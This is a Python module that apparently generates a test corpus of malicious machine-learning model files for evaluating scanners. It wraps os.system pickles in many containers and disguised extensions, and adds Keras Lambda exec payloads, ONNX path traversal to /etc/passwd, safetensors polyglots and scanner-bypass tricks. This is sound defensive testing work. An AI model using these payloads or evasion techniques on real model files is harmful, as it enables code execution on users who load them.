    pos = 0
    while (pos := out.find(b"PK\x03\x04", pos)) >= 0:
        struct.pack_into("<H", out, pos + 6, struct.unpack_from("<H", out, pos + 6)[0] | flag)
        if bad_crc:
            struct.pack_into("<I", out, pos + 14, struct.unpack_from("<I", out, pos + 14)[0] ^ 0xDEADBEEF)
        pos += 4
    pos = 0
    while (pos := out.find(b"PK\x01\x02", pos)) >= 0:
        struct.pack_into("<H", out, pos + 8, struct.unpack_from("<H", out, pos + 8)[0] | flag)
        if bad_crc:
            struct.pack_into("<I", out, pos + 16, struct.unpack_from("<I", out, pos + 16)[0] ^ 0xDEADBEEF)
        name_len = struct.unpack_from("<H", out, pos + 28)[0]
        name = bytes(out[pos + 46:pos + 46 + name_len])
        if central_name is not None and name.endswith(b"data.pkl"):
            new = central_name.encode().ljust(name_len, b"_")[:name_len]
            out[pos + 46:pos + 46 + name_len] = new
        pos += 4
    return bytes(out)


_BENIGN = assemble({"weight": 1.0}, 2)

#: (container id, filename suffix, wrap(pickle) -> file bytes)
CONTAINERS: list[tuple[str, str, Callable[[bytes], bytes]]] = [
    ("torch_zip", ".pt", torch_zip),
    ("torch_zip_odd_prefix", ".bin", lambda p: torch_zip(p, prefix="my model (v2)!")),
    ("torch_zip_nested_dir", ".pth", lambda p: torch_zip(p, prefix="a/b/c")),
    ("torch_zip_other_member", ".pt", lambda p: torch_zip(_BENIGN, extra=[("archive/data/0", p)])),
    ("torch_zip_oddly_named_pkl", ".pt", lambda p: torch_zip(_BENIGN, extra=[("archive/extra_state.pickle", p)])),
    ("torch_zip_duplicate_name", ".pt", lambda p: torch_zip(_BENIGN, extra=[("archive/data.pkl", p)])),
    ("torch_zip_junk_prefix", ".pt", lambda p: b"\x00JUNK" * 8 + torch_zip(p)),
    ("torch_legacy", ".pt", torch_legacy),
    ("torch_legacy_sys_info", ".pt", lambda p: torch_legacy(p, in_sys_info=True)),
    ("joblib", ".joblib", lambda p: p),
    ("joblib_zlib", ".joblib", lambda p: zlib.compress(p, 3)),
    ("joblib_gzip", ".joblib.gz", lambda p: gzip.compress(p, mtime=0)),
    ("joblib_bz2", ".joblib.bz2", bz2.compress),
    ("joblib_xz", ".joblib.xz", lambda p: lzma.compress(p, preset=0)),
    ("joblib_lzma", ".joblib.lzma", lambda p: lzma.compress(p, format=lzma.FORMAT_ALONE, preset=0)),
    ("npy_object", ".npy", npy_object),
    ("npz", ".npz", lambda p: _zip([("arr_0.npy", npy_object(p))])),
    ("npz_deflated", ".npz", lambda p: _zip([("w.npy", npy_object(p))], zipfile.ZIP_DEFLATED)),
    ("zip_nested", ".zip", lambda p: _zip([("inner/model.pkl", p)], zipfile.ZIP_DEFLATED)),
    ("zip_in_zip", ".zip", lambda p: _zip([("outer.zip", _zip([("model.pkl", p)]))])),
    ("tar", ".tar", lambda p: _tar([("model.pkl", p)])),
    ("tar_gz_torch", ".tar.gz", lambda p: _tar([("ckpt/model.pt", torch_zip(p))], "w:gz")),
    ("gzip", ".pkl.gz", lambda p: gzip.compress(p, mtime=0)),
    ("7z", ".7z", lambda p: _7z([("model.pkl", p)])),
    ("lying_png", ".png", lambda p: p),
    ("lying_txt", ".txt", lambda p: p),
    ("lying_safetensors", ".safetensors", lambda p: p),
    ("lying_png_torch_zip", ".png", torch_zip),
]


#: payloads put in every container even in the reduced (test-suite) corpus
REPRESENTATIVE = ("os_system", "importlib_getattr_chain", "memo_stack_global", "pkgutil_resolve_name",
                  "broken_after_payload_bad_opcode", "inst_opcode", "dotted_global", "numpy_runstring")


def pickle_cases(full: bool = True) -> Iterator[Case]:
    """Every payload in every raw protocol and in containers (protocols 2 and 4 inside containers).

    ``full=True``: every payload in every container. ``full=False`` (the test suite's budget): the
    representative payloads in every container, every other payload in one container, rotating, so each
    payload and each container is still exercised.
    """
    for i, p in enumerate(payloads()):
        for proto in PROTOCOLS:
            yield Case(f"{p.name}__raw_p{proto}", p.name, f"raw_p{proto}", p.source, f"{p.name}_p{proto}.pkl",
                       p.build(proto), p.expect)
        for proto in (2, 4):
            boxes = CONTAINERS
            if not full:
                if p.name in REPRESENTATIVE:
                    boxes = CONTAINERS if proto == 4 else []
                else:
                    boxes = [CONTAINERS[i % len(CONTAINERS)]] if proto == 2 + 2 * (i % 2) else []
            if not boxes:
                continue
            pkl = p.build(proto)
            for cname, suffix, wrap in boxes:
                yield Case(f"{p.name}__{cname}_p{proto}", p.name, cname, p.source,
                           f"{p.name}_{cname}_p{proto}{suffix}", wrap(pkl), p.expect)


def zip_tamper_cases() -> Iterator[Case]:
    pkl = assemble(Call(G("os", "system"), (CMD,)), 2)
    src = "picklescan tests malicious1_0x1/0x20/0x40/_crc/_central_directory.zip"
    base = torch_zip(pkl)
    for flag in (0x1, 0x20, 0x40):
        yield Case(f"zip_flag_{flag:#x}", f"zip_flag_{flag:#x}", "torch_zip", src, f"zip_flag_{flag:#x}.pt",
                   _patch_zip(base, flag=flag), "high")
    yield Case("zip_bad_crc", "zip_bad_crc", "torch_zip", src, "zip_bad_crc.pt", _patch_zip(base, bad_crc=True),
               "high")
    yield Case("zip_central_directory", "zip_central_directory", "torch_zip", src, "zip_central_dir.pt",
               _patch_zip(base, central_name="archive/weights.bin"), "high")
    deflated = _zip([("archive/data.pkl", pkl), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED)
    yield Case("zip_flag_deflated_0x1", "zip_flag_0x1", "torch_zip", src, "zip_flag_defl.pt",
               _patch_zip(deflated, flag=0x1), "high")
    # a central directory that is cut short, overwritten or gone: zipfile cannot open the archive, a
    # streaming reader still finds every member from its local header (sizes in data descriptors)
    bsrc = "broken central directory (zipfile refuses; streaming readers and scanners that give up miss it)"
    for label, data in (("stored", base), ("streamed", streamed_zip(pkl)),
                        ("streamed_deflated", streamed_zip(pkl, zipfile.ZIP_DEFLATED)),
                        ("streamed_last", streamed_zip(pkl, last=True))):
        cd = data.index(b"PK\x01\x02")
        garbled = bytearray(data)
        garbled[cd:] = bytes(b ^ 0x5A for b in garbled[cd:])
        for how, broken in (("truncated", data[:cd + 23]), ("missing", data[:cd]), ("garbled", bytes(garbled))):
            yield Case(f"zip_cd_{how}_{label}", "zip_broken_central_directory", "torch_zip", bsrc,
                       f"zip_cd_{how}_{label}.pt", broken, "critical")


# -- Keras, HDF5, ONNX, safetensors --------------------------------------------------------------------


def _marshalled_lambda() -> str:
    # compiled, never executed: the bytes a Keras Lambda layer stores for ``lambda x: exec(...)``
    code = compile(f"lambda x: exec({PY!r}) or x", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


def _keras3_config(layer: dict[str, Any]) -> dict[str, Any]:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True, "dtype": "float32",
                       "layers": [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                                   "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}},
                                  layer]}}


def _keras3_lambda() -> dict[str, Any]:
    # what Keras 3's Lambda.get_config writes for a Python lambda: func_dump's (code, defaults, closure)
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                       "function": {"class_name": "__lambda__",
                                    "config": {"value": [_marshalled_lambda(), None, None]}},
                       "output_shape": None, "arguments": {}}}


def _keras_file(config: dict[str, Any]) -> bytes:
    meta = {"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}
    return _zip([("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(config).encode()),
                 ("model.weights.h5", b"")], zipfile.ZIP_DEFLATED)


def _h5(model_config: dict[str, Any], as_bytes: bool = False) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        text = json.dumps(model_config)
        f.attrs["model_config"] = text.encode() if as_bytes else text
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.create_group("model_weights")
    return buf.getvalue()


def _keras2_lambda_layer() -> dict[str, Any]:
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                               "function": [_marshalled_lambda(), None, None],
                                               "function_type": "lambda", "module": "__main__",
                                               "output_shape": None, "arguments": {}}}


def keras_cases() -> Iterator[Case]:
    src = "Keras Lambda (marshalled bytecode); modelscan keras/h5 scanners"
    yield Case("keras_lambda", "keras_lambda", "keras", src, "model.keras", _keras_file(_keras3_config(_keras3_lambda())))
    wrapped = {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
               "config": {"name": "td", "layer": _keras3_lambda()}}
    yield Case("keras_lambda_wrapped", "keras_lambda", "keras", src + " (nested in a wrapper layer)",
               "wrapped.keras", _keras_file(_keras3_config(wrapped)))
    yield Case("keras_lambda_lying_zip", "keras_lambda", "keras", src + " (extension .zip)", "model_keras.zip",
               _keras_file(_keras3_config(_keras3_lambda())))
    custom = {"module": "os", "class_name": "system", "registered_name": None, "config": {"command": CMD}}
    yield Case("keras_module_os", "keras_module", "keras", "CVE-2025-1550 (config names any module)",
               "custom.keras", _keras_file(_keras3_config(custom)), "high")
    seq = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "in"}},
        _keras2_lambda_layer()]}}
    yield Case("h5_lambda", "h5_lambda", "h5", src, "model.h5", _h5(seq))
    yield Case("h5_lambda_bytes_attr", "h5_lambda", "h5", src + " (model_config as bytes)", "model2.h5",
               _h5(seq, as_bytes=True))
    functional = {"class_name": "Functional", "config": {"name": "f", "layers": [
        {"class_name": "Bidirectional", "config": {"name": "bi", "layer": _keras2_lambda_layer()}}]}}
    yield Case("h5_lambda_nested", "h5_lambda", "h5", src + " (nested in Bidirectional)", "weights.hdf5",
               _h5(functional))
    yield Case("h5_lambda_lying_ext", "h5_lambda", "h5", src + " (extension .bin)", "keras_model.bin", _h5(seq))
    # Keras 2 writes no module: a class_name Keras does not define is looked up among custom objects
    # (get_custom_objects / register_keras_serializable), whose code runs when the layer is built
    csrc = "Keras 2 custom layer (class resolved from custom objects at load; modelscan H5 scanner gap)"
    backdoor = {"class_name": "Backdoor", "config": {"name": "bd", "trainable": True, "command": CMD}}
    custom_seq = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "in"}}, backdoor]}}
    yield Case("h5_custom_layer", "keras2_custom_layer", "h5", csrc, "custom.h5", _h5(custom_seq), "high")
    nested = {"class_name": "Functional", "config": {"name": "f", "layers": [
        {"class_name": "TimeDistributed", "config": {"name": "td", "layer": backdoor}, "inbound_nodes": []}]}}
    yield Case("h5_custom_layer_nested", "keras2_custom_layer", "h5", csrc + " (in a wrapper layer)",
               "custom_nested.h5", _h5(nested), "high")
    cell = {"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "RNN", "config": {"name": "rnn", "cell": {"class_name": "BackdoorCell",
                                                                 "config": {"units": 4}}}}]}}
    yield Case("h5_custom_rnn_cell", "keras2_custom_layer", "h5", csrc + " (an RNN cell)", "custom_cell.h5",
               _h5(cell), "high")
    yield Case("keras_v2_config_custom_layer", "keras2_custom_layer", "keras", csrc + " (.keras archive)",
               "custom2.keras", _keras_file(custom_seq), "high")


def _onnx_external(location: str) -> bytes:
    from onnx import TensorProto, helper

    init = TensorProto()
    init.name = "W"
    init.data_type = TensorProto.FLOAT
    init.dims.extend([4])
    init.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = init.external_data.add()
        entry.key = key
        entry.value = value
    node = helper.make_node("Add", ["X", "W"], ["Y"])
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])], [init])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    return bytes(model.SerializeToString())


def onnx_cases() -> Iterator[Case]:
    src = "ONNX external data path traversal (CVE-2024-27318/27319 class)"
    for tag, loc in (("relative_traversal", "../../etc/passwd"), ("absolute", "/etc/passwd"),
                     ("nested_traversal", "weights/../../../etc/shadow"), ("windows_absolute", "C:\\Windows\\win.ini")):
        yield Case(f"onnx_external_{tag}", "onnx_external", "onnx", src, f"ext_{tag}.onnx", _onnx_external(loc), "high")
    yield Case("onnx_external_lying_ext", "onnx_external", "onnx", src + " (extension .bin)", "graph.bin",
               _onnx_external("../../etc/passwd"), "high")


def _safetensors(header: dict[str, Any], data: bytes, header_len: int | None = None) -> bytes:
    raw = json.dumps(header).encode()
    n = len(raw) if header_len is None else header_len
    return struct.pack("<Q", n) + raw + data


def safetensors_cases() -> Iterator[Case]:
    src = "safetensors header validation (format spec)"
    f32 = {"dtype": "F32", "shape": [4]}
    yield Case("safetensors_overlap", "safetensors_overlap", "safetensors", src, "overlap.safetensors",
               _safetensors({"a": {**f32, "data_offsets": [0, 16]}, "b": {**f32, "data_offsets": [8, 24]}},
                            bytes(24)), "high")
    yield Case("safetensors_trailing_pickle", "safetensors_trailing", "safetensors", src + " (polyglot)",
               "trailing.safetensors",
               _safetensors({"a": {**f32, "data_offsets": [0, 16]}}, bytes(16))
               + assemble(Call(G("os", "system"), (CMD,)), 2), "high")
    yield Case("safetensors_header_too_large", "safetensors_header_size", "safetensors", src,
               "huge.safetensors", _safetensors({"a": {**f32, "data_offsets": [0, 16]}}, bytes(16),
                                                header_len=2**40), "high")
    yield Case("safetensors_header_over_limit", "safetensors_header_size", "safetensors", src,
               "limit.safetensors", _safetensors({"a": {**f32, "data_offsets": [0, 16]}}, bytes(16),
                                                 header_len=100_000_001), "high")
    yield Case("safetensors_bad_dtype", "safetensors_bad_dtype", "safetensors", src, "dtype.safetensors",
               _safetensors({"a": {"dtype": "F33", "shape": [4], "data_offsets": [0, 16]}}, bytes(16)), "high")
    yield Case("safetensors_out_of_bounds", "safetensors_offsets", "safetensors", src, "oob.safetensors",
               _safetensors({"a": {**f32, "data_offsets": [0, 4096]}}, bytes(16)), "high")
    yield Case("safetensors_shape_mismatch", "safetensors_offsets", "safetensors", src, "shape.safetensors",
               _safetensors({"a": {"dtype": "F32", "shape": [8], "data_offsets": [0, 16]}}, bytes(16)), "high")
    yield Case("safetensors_not_json", "safetensors_header", "safetensors", src, "json.safetensors",
               struct.pack("<Q", 12) + b"{not json!!}" + bytes(16), "high")


def _tar1(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def issue9_cases() -> Iterator[Case]:
    """The bypass classes of issue 9 (streams a loader joins, polyglots, recognition, graphs in graphs,
    truncation), each in the containers it rides in."""
    call = f"cos\nsystem\n(S'{CMD}'\ntR.".encode()
    cut = call.index(b"tem")
    for label, comp, ext in (("gzip", gzip.compress, "gz"), ("bz2", bz2.compress, "bz2"),
                             ("xz", lzma.compress, "xz"), ("zlib", zlib.compress, "z")):
        joined = comp(call[:cut]) + comp(call[cut:])
        yield Case(f"split_members_{label}", "joined_streams", label, "issue 9: pickle split across members",
                   f"model.joblib.{ext}", joined)
        yield Case(f"split_members_{label}_in_zip", "joined_streams", "zip", "issue 9: split members in a zip",
                   "bundle.zip", _zip([(f"model.joblib.{ext}", joined)]))
    poly = _tar1(call.decode("latin-1"), b"abc")
    yield Case("tar_header_pickle", "tar_pickle_polyglot", "tar", "issue 9: a tar header that is a pickle",
               "model.tar", poly)
    yield Case("tar_header_pickle_gz", "tar_pickle_polyglot", "gzip", "issue 9: same, gzipped", "model.tar.gz",
               gzip.compress(poly))
    yield Case("tar_header_pickle_in_zip", "tar_pickle_polyglot", "zip", "issue 9: same, in a zip", "bundle.zip",
               _zip([("inner.tar", poly)]))
    for ub in (512, 2048):
        import h5py

        f = io.BytesIO()
        with h5py.File(f, "w", userblock_size=ub) as h:
            h.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [
                {"class_name": "Lambda", "config": {"function": ["x"], "function_type": "lambda"}}]}})
        yield Case(f"hdf5_userblock_{ub}", "hdf5_userblock", "hdf5", "issue 9: HDF5 superblock after a user block",
                   "model.h5", f.getvalue())
        yield Case(f"hdf5_userblock_{ub}_pickle", "hdf5_userblock", "hdf5",
                   "issue 9: a pickle in the user block of an HDF5 file", "model.h5",
                   b"\x80\x02" + call + f.getvalue()[2 + len(call):])
    for i, (mod, cls, conf) in enumerate((("keras.src.utils.file_utils", "get_file", {"origin": "http://x"}),
                                          ("keras.layers", "TFSMLayer", {"filepath": "/tmp/x"}),
                                          ("keras.layers", "StringLookup", {"vocabulary": "/etc/passwd"}))):
        cfg = json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [
            {"module": mod, "class_name": cls, "config": conf}]}}).encode()
        members = [("config.json", cfg)] if i != 1 else [("config.json", cfg), ("model.weights.h5", b"")]
        yield Case(f"keras_name_{cls.lower()}", "keras_module_by_name", "keras",
                   "issue 9: keras.* not trusted by name; no metadata.json", "model.keras", _zip(members), "high")
    code = b"def forward(self, x: Tensor) -> Tensor:\n    _0 = torch.from_file(\"/dev/shm/x\", True, 64)\n    return x\n"
    ts = _zip([("archive/code/__torch__/m.py", code), ("archive/constants.pkl", b"\x80\x02).")])
    yield Case("torchscript_from_file", "torchscript_file_calls", "torchscript", "issue 9: maps a file",
               "model.pt", ts)
    saves = code.replace(b"torch.from_file(\"/dev/shm/x\", True, 64)", b"torch.save(x, \"/tmp/out.pt\")")
    yield Case("torchscript_save", "torchscript_file_calls", "torchscript", "issue 9: writes a file", "model.pt",
               _zip([("archive/code/__torch__/m.py", saves), ("archive/constants.pkl", b"\x80\x02).")]))
    yield Case("torchscript_from_file_tar", "torchscript_file_calls", "tar", "issue 9: same, in a tar",
               "model.tar", _tar1("model.pt", ts))


def all_cases(full: bool = True) -> list[Case]:
    cases = [*pickle_cases(full), *zip_tamper_cases(), *keras_cases(), *onnx_cases(), *safetensors_cases(),
             *issue9_cases()]
    names = [c.name for c in cases]
    if len(set(names)) != len(names):
        raise AssertionError("corpus case names must be unique")
    return cases


def write_corpus(directory: Path, full: bool = True) -> list[tuple[Case, Path]]:
    """Write every case to ``directory`` (one file each, its own extension) and return where."""
    directory.mkdir(parents=True, exist_ok=True)
    out = []
    for case in all_cases(full):
        path = directory / f"{case.name}__{case.filename}"
        path.write_bytes(case.data)
        out.append((case, path))
    return out
